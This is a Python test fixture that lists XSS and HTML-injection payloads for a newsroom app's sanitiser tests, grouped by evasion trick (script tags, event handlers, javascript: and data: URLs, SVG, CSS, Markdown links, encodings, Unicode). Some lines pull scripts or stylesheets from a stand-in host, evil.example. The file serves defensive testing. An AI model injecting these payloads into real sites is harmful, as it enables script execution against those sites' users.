"""XSS and HTML-injection payloads, pushed through every text field by ``test_xss.py``.

Grouped by trick; each group's strings are tried as plain text (headline,
name, key point) and as Markdown (entry and article bodies). Sources: the
OWASP XSS filter evasion cheat sheet, the CommonMark spec's link and
autolink sections, and HTML5 parsing quirks.
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<!--<script>-->alert(1)<!--</script>-->",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<body onload=alert(1)>",
    '<a href="#" onclick="alert(1)">click</a>',
    "<div onmouseover=alert(1)>hover</div>",
    '<input autofocus onfocus="alert(1)">',
    "<details open ontoggle=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<video><source onerror=alert(1)></video>",
]

URL_SCHEMES = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
]

SVG = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
]

CSS = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="-moz-binding:url(https://evil.example/xss.xml#x)">x</p>',
]

BROKEN_MARKUP = [
    "<img src=x onerror=alert(1)",
    "<<script>alert(1)//<</script>",
    "<a href='x' <script>alert(1)</script>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    '<https://example.org/"onmouseover="alert(1)>',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '![x][img]\n\n[img]: javascript:alert(1) "title"',
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "www.example.org/<script>alert(1)</script>",
]

ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "{{ request.user }}{% debug %}",
    "${alert(1)}",
]

UNICODE = [
    "Harbour \u202etxt.exe\u202c report",
    "\u202e<script>alert(1)</script>",
    "\u2066isolate\u2069 \u200f\u200e marks",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "Zero\u200bwidth <img src=x onerror=alert(1)>",
    "Emoji \U0001f600 and combining e\u0301",
]

# Characters no field may hold (newsdesk/newsroom/characters.py): refused, not stored.
REFUSED = [
    "Null\x00byte<script>alert(1)</script>",
    "Vertical\x0btab<img src=x onerror=alert(1)>",
    "Escape\x1b[31m<script>alert(1)</script>",
    "Nonchar\uffff<script>alert(1)</script>",
    "C1 control\x9b<script>alert(1)</script>",
]

LONG = [
    "<b>" * 2000 + "deep",
    "[" * 5000 + "x" + "](javascript:alert(1))" * 10,
    "<img src=x onerror=alert(1)>" * 1000,
    "x" * 250_000,
]

ALL: list[str] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *URL_SCHEMES,
    *SVG,
    *CSS,
    *BROKEN_MARKUP,
    *MARKDOWN,
    *ENTITIES,
    *UNICODE,
    *LONG,
]
